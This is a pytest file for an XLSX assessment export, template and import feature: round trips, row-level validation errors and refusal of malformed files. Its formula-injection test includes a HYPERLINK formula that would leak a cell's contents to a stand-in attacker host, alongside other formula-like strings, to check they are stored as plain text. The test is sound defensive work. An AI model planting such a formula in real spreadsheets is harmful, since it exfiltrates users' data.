"""XLSX export and the fill-in template: they import back, and bad rows are refused with nothing written."""

from __future__ import annotations

import datetime as dt

import openpyxl
import pytest

from clusterdesk.analysis import capacity_scores as cs
from clusterdesk.core.capacity_edits import AssessmentInput, SaveAssessments
from clusterdesk.core.capacity_framework_edits import SetRubricText
from clusterdesk.core.edits import UpdateStakeholder
from clusterdesk.io.capacity_xlsx import COLUMNS, SCORES_SHEET, export_assessments, write_template
from clusterdesk.io.capacity_xlsx_import import CapacityImportError, read_assessments
from clusterdesk.io.errors import ExportError, ImportFileError

SCORE, EVIDENCE, DATE, ASSESSOR = (
    COLUMNS.index(c) + 1 for c in ("Score", "Evidence", "Assessment date", "Assessor")
)


def fill(path, fill_row):
    """Open a workbook, call fill_row(sheet, row_number, values) for each data row, save it."""
    workbook = openpyxl.load_workbook(path)
    sheet = workbook[SCORES_SHEET]
    for number in range(2, sheet.max_row + 1):
        values = [c.value for c in sheet[number]]
        fill_row(sheet, number, dict(zip(COLUMNS, values, strict=False)))
    workbook.save(path)


def test_template_filled_by_a_field_team_imports_back(capacity_project, framework, tmp_path):
    path = write_template(capacity_project, tmp_path / "baseline.xlsx", "baseline")
    workbook = openpyxl.load_workbook(path)
    assert workbook.sheetnames[:3] == ["Scores", "Rubric", "Instructions"]
    rows = list(workbook["Scores"].iter_rows(min_row=2, values_only=True))
    assert len(rows) == 3 * 20, "three support institutions, twenty indicators, the firm left out"
    assert {r[0] for r in rows} == {"Cámara de Comercio", "Universidad Técnica", "Escuela Vocacional"}

    def visit(sheet, number, row):
        if row["Institution"] == "Escuela Vocacional":
            return  # not visited: left empty and skipped
        sheet.cell(number, SCORE).value = 2 if row["Institution"] == "Cámara de Comercio" else 4
        sheet.cell(number, EVIDENCE).value = f"interview, {row['Indicator code']}"
        if row["Indicator code"] == "D1.1":
            sheet.cell(number, DATE).value = dt.datetime(2025, 3, 12)
            sheet.cell(number, ASSESSOR).value = "M. Andrade"
        if row["Institution"] == "Universidad Técnica" and row["Indicator code"] == "D7.2":
            sheet.cell(number, SCORE).value = None  # could not be assessed

    fill(path, visit)
    imported = read_assessments(capacity_project, path)
    assert imported.describe() == "2 assessments from baseline.xlsx; 1 left empty and skipped"
    capacity_project.stack.push(imported.command())
    results = cs.results_by_institution(capacity_project, framework)
    chamber, university = results[1][0], results[2][0]
    assert chamber.overall == pytest.approx(2.0) and chamber.assessment.assessor == "M. Andrade"
    assert chamber.assessment.assessed_on == dt.date(2025, 3, 12)
    assert university.overall is None and (university.scored, university.total) == (19, 20)
    assert university.assessment.evidence[framework.indicators[-1].fid] == "interview, D7.2"
    assert 3 not in results
    assert capacity_project.stack.undo_label == "Import capacity assessments from baseline.xlsx"


def test_export_round_trips_and_summarises(capacity_project, framework, tmp_path):
    given = {i.fid: (3, f"note {i.code}") for i in framework.indicators}
    given[framework.indicators[0].fid] = (None, "no records shown")
    capacity_project.stack.push(SaveAssessments([
        AssessmentInput(framework.fid, 1, "baseline", {i.fid: (2, None) for i in framework.indicators},
                        assessed_on=dt.date(2025, 3, 1), assessor="Team A"),
        AssessmentInput(framework.fid, 1, "mid_term", given, assessed_on=dt.date(2026, 3, 1)),
    ]))  # fmt: skip
    path = export_assessments(capacity_project, tmp_path / "export.xlsx")
    workbook = openpyxl.load_workbook(path)
    summary = list(workbook["Summary"].iter_rows(values_only=True))
    assert summary[0][-1] == "Overall" and summary[1][0] == "Cámara de Comercio"
    assert summary[1][5:7] == ("20/20", "yes") and summary[1][-1] == 2.0
    assert summary[2][5:8] == ("19/20", "no", None) and summary[2][-1] is None
    before = cs.results_by_institution(capacity_project, framework)
    capacity_project.stack.push(read_assessments(capacity_project, path).command())
    after = cs.results_by_institution(capacity_project, framework)
    assert [r.assessment.scores for r in after[1]] == [r.assessment.scores for r in before[1]]
    assert [r.assessment.evidence for r in after[1]] == [r.assessment.evidence for r in before[1]]
    assert capacity_project.counts()["capacity_assessments"] == 2


def test_bad_rows_are_listed_by_row_and_column_and_nothing_is_written(capacity_project, tmp_path):
    path = write_template(capacity_project, tmp_path / "bad.xlsx", "mid_term")

    def spoil(sheet, number, row):
        sheet.cell(number, SCORE).value = 3
        if number == 2:
            sheet.cell(number, 1).value = "Camara de Comercio Ibarra"
            sheet.cell(number, COLUMNS.index("Institution ID") + 1).value = None
        elif number == 5:
            sheet.cell(number, SCORE).value = 7
        elif number == 9:
            sheet.cell(number, COLUMNS.index("Indicator code") + 1).value = None
        elif number == 12:
            sheet.cell(number, COLUMNS.index("Round") + 1).value = "midterm"
        elif number == 14:
            sheet.cell(number, SCORE).value = "3.5"

    fill(path, spoil)
    with pytest.raises(CapacityImportError) as caught:
        read_assessments(capacity_project, path)
    found = [(p.row, p.column) for p in caught.value.problems]
    assert found == [(2, "Institution"), (5, "Score"), (9, "Indicator code"), (12, "Round"), (14, "Score")]
    message = str(caught.value)
    assert "bad.xlsx: 5 problems, nothing was imported" in message
    assert "row 5, Score: must be a whole number from 1 to 5" in message
    assert "row 9, Indicator code: missing" in message
    assert "no stakeholder of this project has this name" in message
    assert capacity_project.counts()["capacity_assessments"] == 0


def test_a_duplicated_row_and_files_that_are_not_templates_are_refused(capacity_project, tmp_path):
    path = write_template(capacity_project, tmp_path / "twice.xlsx", "final")
    workbook = openpyxl.load_workbook(path)
    sheet = workbook[SCORES_SHEET]
    sheet.append([c.value for c in sheet[2]])
    workbook.save(path)
    with pytest.raises(CapacityImportError, match=r"row 62, Indicator code: Cámara de Comercio has this"):
        read_assessments(capacity_project, path)
    text = tmp_path / "scores.xlsx"
    text.write_text("Institution;Score\n")
    with pytest.raises(ImportFileError, match="scores.xlsx is not an Excel workbook"):
        read_assessments(capacity_project, text)
    other = openpyxl.Workbook()
    other.active.title = "Sheet1"
    other.save(tmp_path / "other.xlsx")
    with pytest.raises(ImportFileError, match="has no sheet named 'Scores'"):
        read_assessments(capacity_project, tmp_path / "other.xlsx")
    with pytest.raises(ExportError, match="not a round"):
        write_template(capacity_project, tmp_path / "x.xlsx", "second visit")


def test_formula_like_text_is_written_as_text_and_imports_back(capacity_project, framework, tmp_path):
    hostile = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
    first = framework.indicators[0]
    capacity_project.stack.push(UpdateStakeholder(1, {"name": hostile}))
    capacity_project.stack.push(SetRubricText(first.fid, 1, "=1+2"))
    scores = {i.fid: (3, f"-{i.code}") for i in framework.indicators}
    scores[first.fid] = (2, "@SUM(A1:A9)")
    assessment = AssessmentInput(
        framework.fid, 1, "baseline", scores, assessed_on=dt.date(2025, 3, 1), assessor="+Team"
    )
    capacity_project.stack.push(SaveAssessments([assessment]))
    exported = export_assessments(capacity_project, tmp_path / "export.xlsx")
    template = write_template(capacity_project, tmp_path / "template.xlsx", "mid_term")
    for path in (exported, template):
        workbook = openpyxl.load_workbook(path)  # not data_only: a formula would show as a formula
        cells = [c for sheet in workbook for row in sheet.iter_rows() for c in row if c.value is not None]
        assert "f" not in {c.data_type for c in cells}
        assert hostile in {c.value for c in cells} and "=1+2" in {c.value for c in cells}
    before = cs.results_by_institution(capacity_project, framework)[1][0].assessment
    imported = read_assessments(capacity_project, exported)
    capacity_project.stack.push(imported.command())
    after = cs.results_by_institution(capacity_project, framework)[1][0].assessment
    assert after.evidence == before.evidence and after.evidence[first.fid] == "@SUM(A1:A9)"
    assert after.assessor == "+Team" and after.institution_name == hostile
